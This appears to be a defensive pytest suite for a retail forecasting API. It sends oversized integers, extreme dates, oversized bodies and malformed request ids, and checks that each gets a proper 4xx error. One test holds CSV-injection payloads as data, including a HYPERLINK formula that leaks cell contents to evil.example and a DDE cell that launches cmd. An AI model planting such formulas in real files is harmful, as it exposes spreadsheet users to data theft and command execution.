"""Hostile input never reaches a 500: integers of thousands of digits, season dates at the ends
of the calendar and bodies over the size limits, sent over real HTTP to the real app on the local
stack (and, for the host's own limit, to the host with a small limit), each answered with the
documented ErrorResponse, the right status and the request id."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Iterator
from datetime import date

import httpx
import pytest
import websockets
from pydantic import ValidationError
from websockets.typing import Subprotocol

import function_app
from localdev.host.functions import index_app
from localdev.host.server import (
    DEFAULT_MAX_REQUEST_BODY_BYTES,
    MAX_QUERY_CHARS,
    MAX_URL_CHARS,
    LocalOptions,
    free_port,
    start_host,
)
from shared.errors import AppError
from shared.extraction import extract_parameters
from shared.http import MAX_BODY_BYTES, MAX_JSON_INTEGER_DIGITS
from shared.schemas import SEASON_DATE_MAX, SEASON_DATE_MIN, SeasonParameters
from shared.settings import Settings, get_settings
from tests.support.errors import assert_error, assert_error_body
from tests.support.live_stack import LiveStack, live_stack

HUGE = "9" * 5000
PARAMETERS = {
    "forecast_horizon_weeks": 12,
    "season_start_date": "2025-01-01",
    "replenishment_strategy": "weekly",
    "dc_holdback_percentage": 0.15,
}
POST_ROUTES = sorted(
    entry.trigger["route"].replace("{workflow_id}", "some-workflow")
    for entry in index_app(function_app.app).values()
    if entry.trigger_type == "httpTrigger" and "POST" in (entry.trigger.get("methods") or ["POST"])
)
JSON_ROUTES = (
    "orchestrator/extract-parameters",
    "orchestrator/run-workflow",
    "orchestrator/workflows/some-workflow/terminate",
)


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveStack]:
    with live_stack(tmp_path_factory.mktemp("hostile")) as running:
        yield running


@pytest.fixture(scope="module")
def client(stack: LiveStack) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=f"{stack.base_url}/api", timeout=60) as http:
        yield http


def post_raw(client: httpx.Client, route: str, body: str) -> httpx.Response:
    return client.post(f"/{route}", content=body, headers={"content-type": "application/json"})


# ------------------------------------------------------------------------- huge integers


def test_every_json_route_is_among_the_post_routes():
    assert set(JSON_ROUTES) <= set(POST_ROUTES)


@pytest.mark.parametrize("route", POST_ROUTES)
@pytest.mark.parametrize("number", [HUGE, "-" + HUGE, "1" + "0" * 4400])
def test_a_bare_huge_integer_body_is_a_4xx_on_every_post_route(client, route, number):
    response = post_raw(client, route, number)
    assert 400 <= response.status_code < 500
    assert_error(response, response.status_code)


@pytest.mark.parametrize("route", JSON_ROUTES)
def test_a_huge_integer_in_a_json_route_is_a_422_naming_the_limit(client, route):
    body = {
        "orchestrator/extract-parameters": f'{{"strategy_description": {HUGE}}}',
        "orchestrator/run-workflow": json.dumps(
            {"session_id": "s1", "parameters": {**PARAMETERS, "forecast_horizon_weeks": 0}}
        ).replace('"forecast_horizon_weeks": 0', f'"forecast_horizon_weeks": {HUGE}'),
        "orchestrator/workflows/some-workflow/terminate": f'{{"reason": -{HUGE}}}',
    }[route]
    error = assert_error(post_raw(client, route, body), 422)
    assert error.error_type == "INVALID_PARAMETERS"
    assert error.details == {"max_integer_digits": MAX_JSON_INTEGER_DIGITS, "received_digits": 5000}


def test_integers_up_to_the_digit_limit_are_judged_by_the_schema(client):
    long_but_allowed = "9" * MAX_JSON_INTEGER_DIGITS
    body = json.dumps({"session_id": "s1", "parameters": {**PARAMETERS, "unit_target": 0}})
    body = body.replace('"unit_target": 0', f'"unit_target": {long_but_allowed}')
    error = assert_error(post_raw(client, "orchestrator/run-workflow", body), 422)
    assert [e["field"] for e in error.details["validation_errors"]] == ["parameters.unit_target"]


@pytest.mark.parametrize("number", ["1e999999", "-1e999999", "1" * 5000 + ".5", "NaN", "Infinity"])
def test_huge_or_non_finite_floats_are_a_422_on_the_field(client, number):
    parameters = {**PARAMETERS, "dc_holdback_percentage": 0}
    body = json.dumps({"session_id": "s1", "parameters": parameters})
    body = body.replace('"dc_holdback_percentage": 0', f'"dc_holdback_percentage": {number}')
    error = assert_error(post_raw(client, "orchestrator/run-workflow", body), 422)
    fields = [e["field"] for e in error.details["validation_errors"]]
    assert fields == ["parameters.dc_holdback_percentage"]


def test_a_huge_integer_in_a_query_string_is_a_422(client):
    after = "9" * (MAX_QUERY_CHARS - len("after="))
    response = client.get("/orchestrator/workflows/some-workflow/events", params={"after": after})
    error = assert_error(response, 422)
    assert error.details["validation_errors"][0]["field"] == "after"


@pytest.mark.parametrize(
    "query", [{"after": "9" * MAX_QUERY_CHARS}, {"a": "x" * 3000, "b": "y" * 3000}]
)
def test_a_query_string_over_azures_limit_is_a_414(client, query):
    response = client.get("/orchestrator/workflows/some-workflow/events", params=query)
    error = assert_error(response, 414)
    assert error.details == {"max_url_chars": MAX_URL_CHARS, "max_query_chars": MAX_QUERY_CHARS}


def test_a_url_over_azures_limit_is_a_414(client):
    error = assert_error(client.get(f"/orchestrator/workflows/{'w' * MAX_URL_CHARS}"), 414)
    assert error.error_type == "URI_TOO_LONG"


def test_a_huge_integer_in_an_imported_csv_is_a_422_naming_the_row(client):
    sales = f"week_start_date,store_id,category_id,units_sold\n2024-01-01,S001,outerwear,{HUGE}\n"
    response = client.post("/data/import", files={"sales": ("sales.csv", sales, "text/csv")})
    assert 400 <= response.status_code < 500, response.text
    assert_error(response, response.status_code)


STORES_HEADER = (
    "store_id,store_name,region,store_size_sqft,location_tier,median_income,store_format\n"
)


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return", "space"],
)
def test_imported_text_that_a_spreadsheet_would_run_is_refused_naming_the_row(client, cell):
    """CSV injection: text starting like a formula never enters the database (422, nothing
    changed), so no export or download can carry it into a planner's spreadsheet."""
    before = client.get("/categories").json()
    quoted = '"' + cell.replace('"', '""') + '"'
    stores = STORES_HEADER + f"S900,Harbour,{quoted},1000,A,50000,mall\n"
    response = client.post("/data/import", files={"stores": ("stores.csv", stores, "text/csv")})
    error = assert_error(response, 422)
    rows = error.details["problems"]
    assert any(p["column"] == "region" and p["row"] == 2 for p in rows), rows
    assert any("formula" in p["problem"] for p in rows), rows
    assert client.get("/categories").json() == before


async def join_after_a_huge_integer_frame(url: str) -> dict:
    async with websockets.connect(url, subprotocols=[Subprotocol("json.webpubsub.azure.v1")]) as ws:
        assert json.loads(await ws.recv())["event"] == "connected"
        await ws.send(f'{{"type": "joinGroup", "group": "g", "ackId": {HUGE}}}')
        await ws.send('{"type": "joinGroup", "group": "g", "ackId": 1}')
        return json.loads(await asyncio.wait_for(ws.recv(), timeout=10))


def test_the_web_pubsub_emulator_drops_a_frame_with_a_huge_integer_and_keeps_the_connection(
    client,
):
    negotiated = client.get("/orchestrator/negotiate", params={"session_id": "hostile"}).json()
    ack = asyncio.run(join_after_a_huge_integer_frame(negotiated["url"]))
    assert (ack["type"], ack["ackId"]) == ("ack", 1)  # answered: the connection is still open


# ------------------------------------------------------------------------- extreme dates


@pytest.mark.parametrize(
    "parameters,field",
    [
        ({"season_start_date": "9999-12-31"}, "parameters.season_start_date"),
        (
            {"season_start_date": "9999-12-01", "forecast_horizon_weeks": 52},
            "parameters.season_start_date",
        ),
        ({"season_start_date": "0001-01-01"}, "parameters.season_start_date"),
        ({"season_end_date": "9999-12-31"}, "parameters.season_end_date"),
        ({"season_start_date": "2199-12-31"}, "parameters"),
    ],
)
def test_run_workflow_with_dates_out_of_range_is_a_422(client, parameters, field):
    body = {"session_id": "s1", "parameters": {**PARAMETERS, **parameters}}
    error = assert_error(client.post("/orchestrator/run-workflow", json=body), 422)
    assert [e["field"] for e in error.details["validation_errors"]] == [field]
    assert any(
        str(SEASON_DATE_MAX.isoformat()) in e["message"] for e in error.details["validation_errors"]
    )


@pytest.mark.parametrize(
    "text",
    [
        "12 week season starting Dec 31, 9999, weekly replenishment, 15% DC holdback",
        "52 weeks from 9999-12-01 with weekly replenishment and 10% holdback",
        "Season of 8 weeks starting 12/31/9999, no replenishment, no DC holdback",
        "Starting Jan 1, 0001 for 12 weeks, weekly replenishment, 15% holdback",
        "Starting 2199-12-31 for 12 weeks, weekly replenishment, 15% holdback",
    ],
)
def test_extraction_of_dates_out_of_range_is_a_422(client, text):
    error = assert_error(
        client.post("/orchestrator/extract-parameters", json={"strategy_description": text}), 422
    )
    assert error.error_type == "INVALID_PARAMETERS"
    assert SEASON_DATE_MAX.isoformat() in json.dumps(error.details)


@pytest.mark.parametrize(
    "text",
    [
        "Starting Dec 31, 9999 through Jan 20, weekly replenishment, 15% holdback",
        "Season from Dec 1 through Dec 31, 9999, weekly replenishment, 15% holdback",
        "Launch December 31 9999 and run 99999 weeks; hold back 15%; weekly",
    ],
)
def test_extraction_never_fails_on_dates_near_the_end_of_the_calendar(client, text):
    response = client.post("/orchestrator/extract-parameters", json={"strategy_description": text})
    assert response.status_code in (400, 422)
    assert_error(response, response.status_code)


@pytest.mark.parametrize("today", [date(9999, 12, 31), date(9999, 12, 27)])
@pytest.mark.parametrize(
    "when", ["next month", "next week", "next Monday", "tomorrow", "Jan 5", "today"]
)
def test_relative_dates_at_the_end_of_the_calendar_are_client_errors(today, when):
    text = f"12 weeks starting {when}, weekly replenishment, 15% holdback"
    with pytest.raises(AppError) as raised:
        extract_parameters(text, Settings(EXTRACTOR="rules"), today=today)
    assert raised.value.status_code in (400, 422)


def test_the_season_range_is_inclusive_at_both_ends():
    first = SeasonParameters.model_validate({**PARAMETERS, "season_start_date": "1900-01-01"})
    assert first.season_start_date == SEASON_DATE_MIN
    last_start = date.fromordinal(SEASON_DATE_MAX.toordinal() - 7 * 4)
    last = SeasonParameters.model_validate(
        {**PARAMETERS, "forecast_horizon_weeks": 4, "season_start_date": last_start.isoformat()}
    )
    assert last.season_end_date == SEASON_DATE_MAX
    with pytest.raises(ValidationError, match="season_end_date must be on or before 2199-12-31"):
        SeasonParameters.model_validate(
            {**PARAMETERS, "forecast_horizon_weeks": 5, "season_start_date": last_start.isoformat()}
        )


# ------------------------------------------------------------------------- oversized bodies


def test_a_json_body_over_the_function_limit_is_a_413(client):
    body = json.dumps({"strategy_description": "x" * MAX_BODY_BYTES})
    error = assert_error(post_raw(client, "orchestrator/extract-parameters", body), 413)
    assert error.error_type == "REQUEST_TOO_LARGE"
    assert error.details["max_bytes"] == MAX_BODY_BYTES


def test_the_host_limit_defaults_to_the_functions_host_default():
    assert LocalOptions().max_request_body_bytes == DEFAULT_MAX_REQUEST_BODY_BYTES == 100 * 1024**2


HOST_LIMIT = 64 * 1024


async def read_response(reader: asyncio.StreamReader) -> tuple[int, dict[str, str], bytes]:
    head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").split("\r\n")
    headers = {
        name.lower(): value for name, value in (line.split(": ", 1) for line in head[1:] if line)
    }
    body = await reader.readexactly(int(headers["content-length"]))
    return int(head[0].split()[1]), headers, body


async def raw_exchange(
    port: int, head: bytes, chunk: bytes = b"", max_chunks: int = 0
) -> tuple[int, dict[str, str], bytes, int]:
    """Send `head`, then up to `max_chunks` copies of `chunk` for as long as no response has
    arrived; return the response (status, headers, body) and how many chunks went out."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    response = asyncio.create_task(read_response(reader))
    sent = 0
    try:
        writer.write(head)
        await writer.drain()
        while sent < max_chunks and not response.done():
            writer.write(chunk)
            try:
                await writer.drain()
            except ConnectionError:
                break
            sent += 1
            await asyncio.sleep(0)
        return (*await asyncio.wait_for(response, timeout=20), sent)
    finally:
        writer.close()


@pytest.fixture
async def small_host(monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[int]:
    """The real app behind the host with a 64 KB body limit (no stack needed: the limit is the
    host's, checked before any function runs)."""
    monkeypatch.setenv("EXTRACTOR", "rules")
    get_settings.cache_clear()
    options = LocalOptions(port=free_port(), max_request_body_bytes=HOST_LIMIT)
    async with start_host(options, run_timers=False):
        yield options.port
    get_settings.cache_clear()


async def test_a_declared_oversized_body_is_refused_before_it_is_sent(small_host):
    head = (
        "POST /api/orchestrator/extract-parameters HTTP/1.1\r\nHost: x\r\n"
        "Content-Type: application/json\r\nx-request-id: hostile-413\r\n"
        f"Content-Length: {10**12}\r\n\r\n"
    ).encode()
    status, headers, body, _ = await raw_exchange(small_host, head)
    assert status == 413
    assert headers["x-request-id"] == "hostile-413"
    assert headers["connection"] == "close"
    error = assert_error_body(body, headers, "REQUEST_TOO_LARGE")
    assert error.request_id == "hostile-413"
    assert error.details == {"max_bytes": HOST_LIMIT}


async def test_a_chunked_body_is_cut_off_at_the_limit(small_host):
    head = (
        b"POST /api/orchestrator/run-workflow HTTP/1.1\r\nHost: x\r\n"
        b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    chunk = b"4000\r\n" + b"7" * 0x4000 + b"\r\n"
    status, headers, body, sent = await raw_exchange(small_host, head, chunk, max_chunks=10_000)
    assert sent < 10_000, "the host waited for the whole 160 MB body"
    assert status == 413
    assert_error_body(body, headers, "REQUEST_TOO_LARGE")


async def test_a_body_at_the_limit_reaches_the_function(small_host):
    text = "12 weeks from Jan 1, 2025, weekly, 15% holdback"
    body = json.dumps({"strategy_description": text}).encode()
    body = body[:-1] + b" " * (HOST_LIMIT - len(body)) + b"}"
    async with httpx.AsyncClient(base_url=f"http://127.0.0.1:{small_host}") as http:
        response = await http.post("/api/orchestrator/extract-parameters", content=body)
    assert len(body) == HOST_LIMIT
    assert response.status_code == 200, response.text
    assert response.json()["forecast_horizon_weeks"] == 12


# ------------------------------------------------------------------------- request ids


@pytest.mark.parametrize("request_id", [b"\xff\xfe", "caf\u00e9".encode(), b"x" * 4000])
@pytest.mark.parametrize(
    "request_line", [b"GET /api/no-such-route", b"POST /api/orchestrator/extract-parameters"]
)
def test_an_unusable_request_id_is_replaced_not_echoed(stack, request_line, request_id):
    port = int(stack.base_url.rsplit(":", 1)[1])
    head = (
        request_line + b" HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n"
        b"x-request-id: " + request_id + b"\r\n\r\n{}"
    )
    status, headers, body, _ = asyncio.run(raw_exchange(port, head))
    assert status in (404, 422)
    error = assert_error_body(body, headers)
    assert request_id.decode("latin-1") not in error.request_id


# ------------------------------------------------------------------------- strict numbers


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("dc_holdback_percentage", True),
        ("dc_holdback_percentage", False),
        ("dc_holdback_percentage", "0.15"),
        ("dc_holdback_percentage", " 0.15 "),
        ("confidence_score", True),
        ("markdown_threshold", "0.5"),
        ("forecast_horizon_weeks", "12"),
        ("unit_target", True),
    ],
)
def test_a_number_field_takes_json_numbers_only(client, field, value):
    """Issue 32 case 5: `true` was taken as 1.0 (everything held at the DC) and numeric
    strings as numbers; the document says number, so anything else is a 422 on the field."""
    body = {"session_id": "s1", "parameters": {**PARAMETERS, field: value}}
    error = assert_error(client.post("/orchestrator/run-workflow", json=body), 422)
    fields = [e["field"] for e in error.details["validation_errors"]]
    assert fields == [f"parameters.{field}"]


def test_a_whole_json_number_is_still_a_number_where_the_document_says_number(client):
    body = {"session_id": "s1", "parameters": {**PARAMETERS, "dc_holdback_percentage": 1}}
    response = client.post("/orchestrator/run-workflow", json=body)
    assert response.status_code == 202, response.text


@pytest.mark.parametrize(
    "body",
    ["[]", '"stop"', "123", "true", "null", '{"reason": 5}', '{"reason": "x", "force": true}'],
)
def test_a_terminate_body_is_absent_an_empty_object_or_a_reason(client, body):
    error = assert_error(
        post_raw(client, "orchestrator/workflows/some-workflow/terminate", body), 422
    )
    assert error.error_type == "INVALID_PARAMETERS"


@pytest.mark.parametrize("body", ["", "{}", '{"reason": "done"}', '{"reason": null}'])
def test_a_terminate_body_as_documented_reaches_the_workflow_lookup(client, body):
    response = post_raw(client, "orchestrator/workflows/some-workflow/terminate", body)
    assert_error(response, 404)
